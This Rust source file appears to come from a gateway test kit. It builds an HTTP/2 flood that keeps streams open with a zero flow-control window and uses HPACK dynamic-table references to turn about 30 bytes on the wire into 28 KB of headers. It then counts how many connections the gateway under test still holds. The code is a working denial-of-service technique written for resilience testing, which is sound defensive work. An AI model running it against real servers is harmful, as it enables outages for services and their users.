//! A flood of requests over HTTP/2 that costs its client next to nothing and a gateway much.
//!
//! Each connection says that it takes no byte of a response (`SETTINGS_INITIAL_WINDOW_SIZE` 0), so that every stream stays
//! open, and sends one large field once and then only references to it (RFC 7541, section 6.1): some 30 bytes on the wire
//! are 28 KB of headers at the gateway. It is bounded by its numbers, and ends when it is dropped.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use portcullis_testkit::envoy::PATIENCE;

use crate::raw2::{END_HEADERS, END_STREAM, HEADERS, SETTINGS, push_frame, push_literal};

const INITIAL_WINDOW_SIZE: u16 = 4;

/// The largest value that the peer's table of 4,096 bytes takes, with its name.
const VALUE: usize = 4000;
/// How often a request has it: 28 KB in all, below the examples' `max_request_headers_kb`.
const TIMES: usize = 7;
/// The index of the newest entry of the dynamic table, as an indexed field.
const NEWEST: u8 = 0x80 | 62;

/// Connections that hold what the gateway gave them for as long as this lives.
pub struct Flood {
    connections: Vec<TcpStream>,
}

impl Flood {
    /// Opens so many connections with so many requests each, all with these fields besides the large one. A gateway that
    /// closes or refuses a connection has defended itself, which is no error.
    ///
    /// # Panics
    /// When this process may not open so many sockets.
    #[track_caller]
    pub fn start(addr: SocketAddr, connections: usize, streams: u32, fields: &[(&str, &[u8])]) -> Self {
        let bytes = connection_bytes(streams, fields);
        let mut held = Vec::with_capacity(connections);
        for _ in 0..connections {
            match open(addr, &bytes) {
                Ok(stream) => held.push(stream),
                Err(error) => assert_ne!(error.raw_os_error(), Some(24), "too many open files"),
            }
        }
        Self { connections: held }
    }

    /// How many connections the gateway has left open.
    pub fn open_connections(&mut self) -> usize {
        self.connections.retain_mut(is_open);
        self.connections.len()
    }
}

fn open(addr: SocketAddr, bytes: &[u8]) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&addr, PATIENCE)?;
    stream.set_write_timeout(Some(Duration::from_secs(5)))?;
    stream.write_all(bytes)?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

fn is_open(stream: &mut TcpStream) -> bool {
    let mut buffer = [0; 4096];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return error.kind() == io::ErrorKind::WouldBlock,
        }
    }
}

fn connection_bytes(streams: u32, fields: &[(&str, &[u8])]) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let window = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &0u32.to_be_bytes()].concat();
    push_frame(&mut bytes, SETTINGS, 0, 0, &window);
    push_frame(&mut bytes, SETTINGS, 1, 0, b"");
    // GET, http, / from the static table; none of the rest but the large field goes into the dynamic one.
    let mut base = vec![0x82, 0x86, 0x84];
    push_literal(&mut base, 0x00, b":authority", b"gateway.test");
    for (name, value) in fields {
        push_literal(&mut base, 0x00, name.as_bytes(), value);
    }
    for stream in 0..streams {
        let mut block = base.clone();
        if stream == 0 {
            push_literal(&mut block, 0x40, b"x-large", &[b'v'; VALUE]);
            block.extend([NEWEST; TIMES - 1]);
        } else {
            block.extend([NEWEST; TIMES]);
        }
        push_frame(&mut bytes, HEADERS, END_STREAM | END_HEADERS, 1 + 2 * stream, &block);
    }
    bytes
}
